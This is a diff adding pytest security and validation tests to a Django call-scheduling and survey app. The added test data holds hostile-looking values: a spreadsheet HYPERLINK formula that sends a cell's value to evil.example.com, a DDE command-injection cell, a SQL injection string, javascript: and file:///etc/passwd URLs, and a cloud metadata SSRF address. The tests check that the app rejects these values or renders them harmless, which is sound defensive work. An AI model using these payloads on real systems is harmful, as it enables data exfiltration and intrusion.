@@ -22,13 +22,16 @@ from campaigns.models import Campaign
 from contacts.models import Contact, Exclusion
 from hooks.models import WebhookDelivery, WebhookSubscription
 from tests.factories import (
+    CallAttemptFactory,
     ContactFactory,
     RunningCampaignFactory,
     SurveyCampaignFactory,
     WebhookDeliveryFactory,
     WebhookSubscriptionFactory,
+    book,
 )
 from tests.staff import staff_client
+from tests.test_admin_scheduled_calls import form as booking_form
 from tests.test_api_bad_input import assert_error
 from voicesurvey.accounts.timezones import operator_zone
 
@@ -37,6 +40,7 @@ pytestmark = pytest.mark.django_db
 PHONE = "+12125550142"
 LATER = dt.datetime(2026, 11, 23, 19, 0, tzinfo=dt.UTC)
 AD_HOC = "/api/v1/scheduled-calls/ad-hoc/"
+BOOKINGS = "/api/v1/scheduled-calls/"
 ACCOUNTS = "/api/v1/provider-accounts/"
 SUBSCRIPTIONS = "/api/v1/webhook-subscriptions/"
 DELIVERIES = "/api/v1/webhook-deliveries/"
@@ -345,6 +349,36 @@ def test_a_session_client_without_a_csrf_token_cannot_book(django_user_model, ad
     )
     assert_error(response, 403)
     assert nothing_written()
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"misfire_grace_seconds": 10**30},
+        {"misfire_grace_seconds": 2**31},  # past a PostgreSQL integer
+        {"misfire_grace_seconds": 86_401},
+        {"misfire_grace_seconds": -1},
+        {"max_retries": 11},
+        {"retry_delay_minutes": 10**30},
+    ],
+)
+def test_a_booking_setting_out_of_range_is_a_400_when_booked_or_changed(
+    api_client, change, open_now
+):
+    contact = ContactFactory(phone=PHONE, campaign=SurveyCampaignFactory())
+    body = {"contact": contact.pk, "run_at": "2026-11-23T13:00:00", "timezone": "America/New_York"}
+    error = assert_error(api_client.post(BOOKINGS, {**body, **change}, format="json"), 400)
+    assert set(error["details"]) == set(change)
+    assert not ScheduledCall.objects.exists()
+    call = book(contact, open_now)
+    error = assert_error(api_client.patch(f"{BOOKINGS}{call.pk}/", change, format="json"), 400)
+    assert set(error["details"]) == set(change)
+    fresh = ScheduledCall.objects.get()
+    assert (fresh.misfire_grace_seconds, fresh.max_retries, fresh.retry_delay_minutes) == (
+        call.misfire_grace_seconds,
+        call.max_retries,
+        call.retry_delay_minutes,
+    )
 
 
 def test_a_series_that_runs_past_the_end_of_year_9999_stops_there():
@@ -847,3 +881,308 @@ def test_the_do_not_call_form_reads_a_national_number_in_its_region(admin_client
     )
     assert again.status_code == 200 and "already on the do-not-call list" in again.content.decode()
     assert Exclusion.objects.count() == 1
+
+
+# --- the booking form with its repetition -----------------------------------------------------
+
+BOOKING_ADD = reverse("admin:calls_scheduledcall_add")
+
+
+@pytest.fixture
+def grace():
+    return ContactFactory(phone="+13125550148", campaign=SurveyCampaignFactory())  # Chicago
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"repeat": "DAILY", "ends": "count", "count": "0"},
+        {"repeat": "DAILY", "ends": "count", "count": "-3"},
+        {"repeat": "DAILY", "ends": "count", "count": "1e3"},
+        {"repeat": "DAILY", "ends": "count", "count": "9" * 400},
+        {"repeat": "DAILY", "ends": "until", "until": "2026-11-01"},  # before the first call
+        {"repeat": "DAILY", "ends": "until", "until": "2027-02-29"},
+        {"repeat": "DAILY", "ends": "until", "until": "0000-01-01"},
+        {"repeat": "DAILY", "ends": "until", "until": "10000-01-01"},
+        {"repeat": "DAILY", "interval": "0"},
+        {"repeat": "DAILY", "interval": "366"},
+        {"repeat": "DAILY", "interval": "9" * 400},
+        {"repeat": "HOURLY"},
+        {"repeat": "keep"},  # only offered when changing a rule set through the API
+        {"repeat": "WEEKLY", "days": ["9"]},
+        {"repeat": "WEEKLY", "days": ["x\x00"]},
+        {"ends": "sometime", "repeat": "DAILY"},
+        {"run_at_0": "2027-02-29"},
+        {"run_at_0": "0000-01-01"},
+        {"run_at_0": "10000-01-01"},
+        {"run_at_0": "9999-12-31", "run_at_1": "23:30:00"},  # year 10000 in UTC
+        {"run_at_1": "25:61:00"},
+        {"run_at_0": "", "run_at_1": ""},
+        {"timezone": "Mars/Olympus"},
+        {"timezone": "Europe/Paris\x00"},
+        {"contact": "424242"},
+        {"contact": "abc"},
+        {"contact": "99999999999999999999999"},
+        {"contact": "1\x00"},
+        {"max_retries": "-1"},
+        {"max_retries": "11"},
+        {"max_retries": "9" * 400},
+        {"retry_delay_minutes": "0"},
+        {"retry_delay_minutes": "9" * 400},
+        {"misfire_grace_seconds": "86401"},
+        {"misfire_grace_seconds": "9" * 400},
+        {"note": "n" * 501},
+    ],
+)
+def test_the_booking_form_refuses_bad_fields_with_a_message(admin_client, grace, fields):
+    data = {**booking_form(grace), "timezone": "America/Chicago", **fields}
+    response = admin_client.post(BOOKING_ADD, data)
+    assert response.status_code == 200, response.get("Location")
+    assert response.context["adminform"].form.errors or response.context["errors"]
+    assert not ScheduledCall.objects.exists()
+
+
+@pytest.mark.parametrize("campaign", ["abc", "99999999999999999999999", "", "1 OR 1=1"])
+def test_the_contact_form_with_a_campaign_that_is_no_id_says_so(admin_client, campaign):
+    data = {"phone": PHONE, "region": "US", "campaign": campaign, "attributes": "{}"}
+    response = admin_client.post(reverse("admin:contacts_contact_add"), data)
+    assert response.status_code == 200
+    assert "campaign" in response.context["adminform"].form.errors
+    assert not Contact.objects.exists()
+
+
+@pytest.mark.parametrize(
+    ("day", "time", "utc"),
+    [
+        ("2027-03-14", "02:30:00", None),  # does not exist: refused (the legal window), no crash
+        ("2026-11-01", "01:30:00", None),  # happens twice (already past, as it should say)
+        ("2027-03-14", "12:30:00", dt.datetime(2027, 3, 14, 17, 30, tzinfo=dt.UTC)),  # CDT
+    ],
+)
+def test_a_booking_around_a_daylight_saving_change_never_crashes(
+    admin_client, admin_user, grace, day, time, utc
+):
+    with time_machine.travel(dt.datetime(2027, 3, 10, 17, 0, tzinfo=dt.UTC), tick=False):
+        admin_client.force_login(admin_user)  # the session would have expired by then
+        data = {**booking_form(grace), "timezone": "America/Chicago", "run_at_0": day}
+        response = admin_client.post(BOOKING_ADD, {**data, "run_at_1": time})
+    if utc is None:
+        assert response.status_code == 200 and response.context["adminform"].form.errors
+        assert not ScheduledCall.objects.exists()
+    else:
+        assert response.status_code == 302
+        assert ScheduledCall.objects.get().next_run_at == utc
+
+
+def test_the_booking_form_sent_twice_books_twice_no_half(admin_client, grace):
+    """A booking is a booking each time (as in the API); each is whole, with its event."""
+    data = {**booking_form(grace), "repeat": "DAILY", "ends": "count", "count": "3"}
+    for _ in range(2):
+        assert admin_client.post(BOOKING_ADD, data).status_code == 302
+    assert [c.rrule for c in ScheduledCall.objects.all()] == ["FREQ=DAILY;COUNT=3"] * 2
+    assert all(c.events.filter(kind="created").count() == 1 for c in ScheduledCall.objects.all())
+
+
+def test_a_viewer_cannot_book_nor_change_a_booking(viewer_staff, grace, csrf_admin):
+    data = booking_form(grace)
+    assert viewer_staff.post(BOOKING_ADD, data).status_code == 403
+    assert csrf_admin.post(BOOKING_ADD, data).status_code == 403
+    assert not ScheduledCall.objects.exists()
+
+
+# --- the CSV downloads ------------------------------------------------------------------------
+
+CONTACTS_CSV = reverse("admin:contacts_contact_export")
+ATTEMPTS_CSV = reverse("admin:calls_callattempt_export")
+FORMULA = '=HYPERLINK("https://evil.example.com/?x="&A1,"Click")'
+
+
+def csv_text(response) -> str:
+    assert response.status_code == 200
+    return b"".join(response.streaming_content).decode()
+
+
+@pytest.fixture
+def called():
+    contact = ContactFactory(phone=PHONE, name=FORMULA, external_id="@SUM(1+1)")
+    CallAttemptFactory(contact=contact, campaign=contact.campaign)
+    contact.campaign.name = "+cmd|' /C calc'!A0"
+    contact.campaign.save()
+    return contact
+
+
+def test_the_exports_keep_formulas_from_running(admin_client, called):
+    for url in (CONTACTS_CSV, ATTEMPTS_CSV):
+        text = csv_text(admin_client.get(url))
+        assert PHONE in text
+        for cell in (FORMULA, "@SUM(1+1)", "+cmd|' /C calc'!A0"):
+            if cell in text:
+                assert f"'{cell}" in text or f"\"'{cell}" in text, (url, text)
+        assert "\n=" not in text and ",=" not in text and ',"=' not in text
+
+
+def test_an_attempt_viewer_gets_the_attempts_without_numbers_nor_names(
+    client, django_user_model, called
+):
+    viewer = staff_client(client, django_user_model, "calls.view_callattempt")
+    text = csv_text(viewer.get(ATTEMPTS_CSV))
+    assert PHONE not in text and "HYPERLINK" not in text and PHONE[2:] not in text
+    assert viewer.get(CONTACTS_CSV).status_code == 403
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        {"state__exact": "x\x00"},
+        {"campaign__id__exact": "abc"},
+        {"q": "\x00"},
+        {"q": "+" + "1" * 5000},
+        {"o": "99"},
+        {"not_a_field": "1"},
+        {"next_attempt_at__gte": "10000-01-01"},
+    ],
+)
+def test_an_export_with_junk_filters_is_never_a_500(admin_client, called, query):
+    for url in (CONTACTS_CSV, ATTEMPTS_CSV):
+        response = admin_client.get(url, query)
+        assert response.status_code in (200, 302, 400), (url, query, response.status_code)
+        if response.status_code == 200:
+            csv_text(response)
+
+
+def test_nobody_without_a_view_permission_downloads_anything(client, django_user_model, called):
+    nobody = staff_client(client, django_user_model, "campaigns.view_campaign")
+    assert nobody.get(CONTACTS_CSV).status_code == 403
+    assert nobody.get(ATTEMPTS_CSV).status_code == 403
+    assert Client().get(CONTACTS_CSV).status_code == 302
+
+
+# --- the rejected rows of an import -----------------------------------------------------------
+
+
+def keep_rows(user, *, kind="contacts", at=None):
+    from contacts.models import RejectedImportRows
+
+    return RejectedImportRows.objects.create(
+        created_by=user,
+        created_at=at or dt.datetime(2026, 11, 23, 16, 0, tzinfo=dt.UTC),
+        kind=kind,
+        header=["phone"],
+        rows=[[PHONE, "too short"]],
+        rejected=1,
+    )
+
+
+def rejected_url(kept, model="contact"):
+    return reverse(f"admin:contacts_{model}_import_rejected", args=[kept.pk])
+
+
+def test_the_rejected_rows_are_their_importers_only(client, django_user_model, admin_user):
+    kept = keep_rows(admin_user)
+    other = staff_client(client, django_user_model, "contacts.add_contact", "contacts.view_contact")
+    assert other.get(rejected_url(kept)).status_code == 404
+    assert PHONE.encode() not in other.get(rejected_url(kept)).content
+
+
+def test_the_rejected_rows_need_view_and_add(client, django_user_model):
+    viewer = staff_client(client, django_user_model, "contacts.view_contact", username="v")
+    kept = keep_rows(viewer.session and django_user_model.objects.get(username="v"))
+    assert viewer.get(rejected_url(kept)).status_code == 403
+
+
+def test_the_rejected_rows_of_one_list_are_not_read_through_the_other(admin_client, admin_user):
+    kept = keep_rows(admin_user, kind="contacts")
+    assert admin_client.get(rejected_url(kept, "exclusion")).status_code == 404
+    assert admin_client.get(rejected_url(kept)).status_code == 200
+
+
+def test_expired_or_unknown_rejected_rows_are_a_404(admin_client, admin_user):
+    kept = keep_rows(admin_user, at=dt.datetime(2026, 11, 22, 16, 0, tzinfo=dt.UTC))
+    assert admin_client.get(rejected_url(kept)).status_code == 404
+    big = rejected_url(kept).replace(f"/{kept.pk}.csv", "/99999999999999999999999.csv")
+    assert admin_client.get(big).status_code == 404
+
+
+# --- the webhook and provider account admins -------------------------------------------------
+
+
+def test_the_subscription_secret_never_shows_again_in_the_admin(admin_client):
+    subscription = WebhookSubscriptionFactory()
+    change = reverse("admin:hooks_webhooksubscription_change", args=[subscription.pk])
+    pages = [
+        admin_client.get(change),
+        admin_client.get(reverse("admin:hooks_webhooksubscription_changelist")),
+        admin_client.get(
+            reverse("admin:hooks_webhooksubscription_history", args=[subscription.pk])
+        ),
+        admin_client.post(change, {"url": "ftp://x", "event_types": ["attempt.finished"]}),
+        admin_client.post(
+            change,
+            {"url": subscription.url, "event_types": ["attempt.finished"], "secret": "mine"},
+            follow=True,
+        ),
+    ]
+    for page in pages:
+        assert page.status_code == 200
+        assert subscription.secret not in page.content.decode()
+    before = subscription.secret
+    subscription.refresh_from_db()
+    assert subscription.secret == before
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"url": "javascript:alert(1)", "event_types": ["attempt.finished"]},
+        {"url": "file:///etc/passwd", "event_types": ["attempt.finished"]},
+        {"url": "http://169.254.169.254/", "event_types": ["attempt.finished"]},
+        {"url": "https://ok.example.com/", "event_types": ["nope"]},
+        {"url": "https://ok.example.com/", "event_types": []},
+        {"url": "https://ok.example.com/\x00", "event_types": ["attempt.finished"]},
+        {"url": "https://ok.example.com/" + "a" * 2000, "event_types": ["attempt.finished"]},
+    ],
+)
+def test_the_subscription_admin_refuses_bad_urls_and_events(admin_client, settings, data):
+    settings.WEBHOOK_ALLOW_PRIVATE_URLS = False
+    response = admin_client.post(reverse("admin:hooks_webhooksubscription_add"), data)
+    assert response.status_code == 200 and response.context["adminform"].form.errors
+    assert not WebhookSubscription.objects.exists()
+
+
+def test_a_viewer_cannot_send_a_delivery_again_from_the_admin(viewer_staff, csrf_admin):
+    delivery = WebhookDeliveryFactory(status="failed")
+    post = {"action": "resend", "_selected_action": [delivery.pk]}
+    url = reverse("admin:hooks_webhookdelivery_changelist")
+    response = viewer_staff.post(url, post, follow=True)
+    assert response.status_code in (200, 403)
+    assert csrf_admin.post(url, post).status_code == 403
+    delivery.refresh_from_db()
+    assert delivery.status == "failed"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"provider": "simulated", "calls_per_second": "NaN"},
+        {"provider": "simulated", "calls_per_second": "inf"},
+        {"provider": "simulated", "calls_per_second": "-1"},
+        {"provider": "simulated", "calls_per_second": "1e999"},
+        {"provider": "simulated", "max_concurrent_calls": "9" * 400},
+        {"provider": "simulated", "max_concurrent_calls": "0"},
+        {"provider": "pigeon"},
+        {"provider": "simulated", "account": "AC\x00"},
+    ],
+)
+def test_the_provider_account_admin_refuses_bad_limits(admin_client, data):
+    response = admin_client.post(reverse("admin:calls_provideraccount_add"), data)
+    assert response.status_code == 200 and response.context["adminform"].form.errors
+    assert not ProviderAccount.objects.exists()
+
+
+def test_a_viewer_cannot_change_the_limits_in_the_admin(viewer_staff):
+    account = ProviderAccount.objects.create(provider="simulated", max_concurrent_calls=5)
+    change = reverse("admin:calls_provideraccount_change", args=[account.pk])
+    response = viewer_staff.post(change, {"provider": "simulated", "max_concurrent_calls": "50"})
+    assert response.status_code == 403
+    account.refresh_from_db()
+    assert account.max_concurrent_calls == 5
